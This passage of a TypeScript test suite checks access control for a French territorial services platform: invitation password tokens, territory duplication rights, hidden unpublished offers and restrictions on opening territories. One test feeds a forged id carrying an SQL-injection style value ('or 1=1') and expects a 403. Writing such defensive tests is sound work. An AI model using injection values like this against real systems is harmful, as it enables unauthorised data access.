    expect(JSON.stringify(refused.data ?? refused.message)).toMatch(/existe|déjà|utilis/i)
    expect(await storedToken(target.id)).toBe(before)
    expect(await api.login(DEMO_ACCOUNTS.partnerMissionLocaleLot, DEMO_PASSWORD)).toEqual(expect.any(String))
  })

  it('a deactivated animator invites nobody', async () => {
    const lot = await actor(payload, DEMO_ACCOUNTS.animatorLot)
    await expect(
      inviteProfessional(payload, { ...lot, active: false } as never, { name: 'Fantôme', email: 'fantome@example.org', partner: ids.mlLot }),
    ).rejects.toMatchObject({ status: 403 })
    expect(await userCount('fantome@example.org')).toBe(0)
  })

  it('the « Choisir mon mot de passe » token works once, and not once expired (French refusal)', async () => {
    const lot = await actor(payload, DEMO_ACCOUNTS.animatorLot)
    const first = await inviteProfessional(payload, lot, { name: 'Une fois', email: 'une.fois@example.org', partner: ids.mlLot })
    const token = await storedToken(first.id)
    expect((await api.post('/users/reset-password', { token, password: 'Boussole-Occitanie-77' })).status).toBe(200)
    const again = await api.post('/users/reset-password', { token, password: 'Boussole-Occitanie-88' })
    expect(again.status).toBe(403)
    expect(messages(again.json)).toMatch(/n’est pas valide ou a expiré/)
    expect(await api.login('une.fois@example.org', 'Boussole-Occitanie-77')).toEqual(expect.any(String))

    const second = await inviteProfessional(payload, lot, { name: 'Trop tard', email: 'trop.tard@example.org', partner: ids.mlLot })
    const late = await storedToken(second.id)
    await payload.db.updateOne({ collection: 'users', id: second.id, data: { resetPasswordExpiration: new Date(Date.now() - 60_000).toISOString() } })
    const expired = await api.post('/users/reset-password', { token: late, password: 'Boussole-Occitanie-99' })
    expect(expired.status).toBe(403)
    expect(messages(expired.json)).toMatch(/n’est pas valide ou a expiré/)
    expect((await api.post('/users/login', { email: 'trop.tard@example.org', password: 'Boussole-Occitanie-99' })).status).toBe(401)
  })
})

/* ---------- « Dupliquer pour mon territoire » ---------- */

describe('« Dupliquer pour mon territoire »', () => {
  const nationalEmploi = async () => {
    const theme = (await payload.find({ collection: 'themes', where: { slug: { equals: 'emploi' } }, limit: 1, ...options })).docs[0].id
    return (
      await payload.find({
        collection: 'questionnaires',
        where: { and: [{ theme: { equals: theme } }, { territory: { exists: false } }] },
        limit: 1,
        ...options,
      })
    ).docs[0].id
  }

  it('for a territory not theirs, a partner, a deactivated animator or a forged id: 403 in French, nothing created', async () => {
    const questionnaireId = await nationalEmploi()
    const before = await count('questionnaires')
    const lot = await actor(payload, DEMO_ACCOUNTS.animatorLot)
    const partner = await actor(payload, DEMO_ACCOUNTS.partnerMissionLocaleLot)
    for (const [who, territoryId] of [
      [lot, ids.sicoval],
      [lot, ids.reims],
      [lot, Number.NaN],
      [lot, `${ids.lot} or 1=1` as never],
      [partner, ids.lot],
      [{ ...lot, active: false }, ids.lot],
    ] as const) {
      const refused = await duplicateForTerritory(payload, who as never, { questionnaireId, territoryId }).catch((error: any) => error)
      expect(refused.status).toBe(403)
      expect(refused.message).toMatch(/territoire|autoris|administration/)
    }
    expect(await count('questionnaires')).toBe(before)
  })
})

/* ---------- Opening a territory ---------- */

describe('the published offers of a territory not open yet', () => {
  let reimsOffer: number
  let servedInLot: number

  beforeAll(async () => {
    const source = await payload.findByID({ collection: 'offers', id: ids.orientation, ...options })
    const { id: _id, createdAt: _c, updatedAt: _u, offerTerritories: _rows, ...content } = source as typeof source & { offerTerritories?: unknown }
    // Written as a draft, then published by the system (the demo Grand Reims has no theme open nor chartered partner yet).
    const publishedInReims = async (title: string) => {
      const { id } = await payload.create({ collection: 'offers', data: { ...withoutRowIds(content), title, status: 'brouillon' } as never, ...options })
      await payload.db.updateOne({ collection: 'offers', id, data: { territory: ids.reims, status: 'publiee', _status: 'published' } })
      return { id }
    }
    reimsOffer = (await publishedInReims('Offre rémoise avant l’ouverture')).id
    // Another one, at home in the Grand Reims but validated for the Lot (open): served there, so public.
    servedInLot = (await publishedInReims('Offre rémoise validée pour le Lot')).id
    await payload.db.create({ collection: 'offer-territories', data: { offer: servedInLot, territory: ids.lot, status: 'validee' } })
  })

  it('are not public (REST 404, REST and GraphQL lists, Local API) until the territory opens or validates them elsewhere', async () => {
    expect((await api.get(`/offers/${reimsOffer}?depth=0`)).status).toBe(404)
    expect((await api.get(`/offers/${servedInLot}?depth=0`)).status).toBe(200)
    const listed = await api.get(`/offers?depth=0&limit=0&where[territory][equals]=${ids.reims}`)
    expect(listed.json.docs.map((offer: { id: number }) => offer.id)).toEqual([servedInLot])
    const graphql = await api.graphql(`{ Offers(where: { territory: { equals: ${ids.reims} } }, limit: 0) { docs { id } } }`)
    expect(graphql.json.data.Offers.docs.map((offer: { id: number }) => offer.id)).toEqual([servedInLot])
    const local = await payload.find({ collection: 'offers', where: { territory: { equals: ids.reims } }, depth: 0, overrideAccess: false, pagination: false })
    expect(local.docs.map((offer) => offer.id)).toEqual([servedInLot])
  })

  it('its own animator still reads them; another territory’s animator does not', async () => {
    expect((await api.get(`/offers/${reimsOffer}?depth=0`, tokens.animatorReims)).status).toBe(200)
    expect((await api.get(`/offers/${reimsOffer}?depth=0`, tokens.animatorSicoval)).status).toBe(404)
  })

  it('are not in the sitemap', async () => {
    const { default: sitemap } = await import('../../src/app/sitemap')
    const urls = (await sitemap()).map((entry) => entry.url)
    expect(urls.some((url) => url.endsWith(`/offre/${reimsOffer}`))).toBe(false)
    expect(urls.some((url) => url.endsWith(`/offre/${servedInLot}`))).toBe(true)
  })
})

describe('opening a territory through the API', () => {
  it('its animator cannot set « ouvert » nor the opening date (REST and GraphQL): refused with 403, nothing changes', async () => {
    const before = await payload.findByID({ collection: 'territories', id: ids.reims, ...options })
    const rest = await api.patch(
      `/territories/${ids.reims}?depth=0`,
      { status: 'ouvert', opensAt: '2027-01-01T00:00:00.000Z', openedAt: '2027-01-01' },
      tokens.animatorReims,
    )
    // Payload alone would drop these fields and answer 200: the refusal says who may change them.
    expect([rest.status, rest.json.errors?.[0]?.message]).toEqual([
      403,
      'Seule l’administration nationale peut changer le statut, la date d’ouverture, l’ouverture programmée d’un territoire. Demandez-lui l’ouverture quand la liste d’ouverture est complète.',
    ])
    const graphql = await api.graphql(
      `mutation { updateTerritory(id: ${ids.reims}, data: { status: ouvert, opensAt: "2027-01-01T00:00:00.000Z" }) { id status } }`,
      tokens.animatorReims,
    )
    expect(JSON.stringify(graphql)).toContain('Seule l’administration nationale peut changer le statut')
    const after = await payload.findByID({ collection: 'territories', id: ids.reims, ...options })
    expect([after.status, after.opensAt ?? null, after.openedAt ?? null]).toEqual([before.status, before.opensAt ?? null, before.openedAt ?? null])
    expect(after.status).not.toBe('ouvert')
  })

  it('another territory’s animator and a partner cannot touch it at all', async () => {
    for (const token of [tokens.animatorLot, tokens.partnerLot, undefined]) {
      const response = await api.patch(`/territories/${ids.reims}?depth=0`, { status: 'ouvert' }, token)
      expect([403, 404]).toContain(response.status)
    }
    expect((await payload.findByID({ collection: 'territories', id: ids.reims, ...options })).status).not.toBe('ouvert')
  })

  it('a territory created directly « ouvert » by an administrator is refused in French (REST and GraphQL): nothing is created', async () => {
    const commune = await payload.find({ collection: 'communes', where: { code: { equals: REIMS_COMMUNE } }, limit: 1, ...options })
    const themes = await payload.find({ collection: 'themes', limit: 1, ...options })
    const territoriesBefore = (await payload.count({ collection: 'territories', overrideAccess: true })).totalDocs
    const data = {
      name: 'Ouvert d’emblée',
      slug: 'ouvert-d-emblee',
      status: 'ouvert',
      coverage: { communes: [commune.docs[0].id] },
      themes: [{ theme: themes.docs[0].id, status: 'ouvert' }],
    }
    const rest = await api.post('/territories?depth=0', data, tokens.admin)
    expect(rest.status).toBe(400)
    expect(messages(rest.json)).toContain('Créez d’abord le territoire « En préparation » : il ne peut pas encore ouvrir. Il manque : aucun animateur')
    const graphql = await api.graphql(
      `mutation { createTerritory(data: { name: "Ouvert d’emblée", slug: "ouvert-d-emblee-gql", status: ouvert, coverage: { communes: [${commune.docs[0].id}] } }) { id } }`,
      tokens.admin,
    )
    expect(messages(graphql.json)).toContain('Créez d’abord le territoire « En préparation »')
    expect((await payload.count({ collection: 'territories', overrideAccess: true })).totalDocs).toBe(territoriesBefore)
    // The same through the admin's own path in preparation is accepted (and removed again).
    const preparing = await api.post('/territories?depth=0', { ...data, slug: 'en-preparation-d-abord', status: 'preparation' }, tokens.admin)
    expect(preparing.status).toBe(201)
    await payload.delete({ collection: 'territories', id: preparing.json.doc.id, overrideAccess: true })
  })

  it('a preview cookie is worth nothing once the territory opens', async () => {
    const reimsAnimator = await actor(payload, REIMS_ANIMATOR)
    expect(await previewableTerritory(payload, reimsAnimator, ids.reims)).not.toBeNull()
    // Opened by the system (the checklist is another test's subject).
    await payload.db.updateOne({ collection: 'territories', id: ids.reims, data: { status: 'ouvert' } })
    expect(await previewableTerritory(payload, reimsAnimator, ids.reims)).toBeNull()
    const response = await startAs(String(ids.reims), tokens.animatorReims)
    expect(response.status).toBe(404)
    expect(response.headers.get('set-cookie')).toBeNull()
  })
})
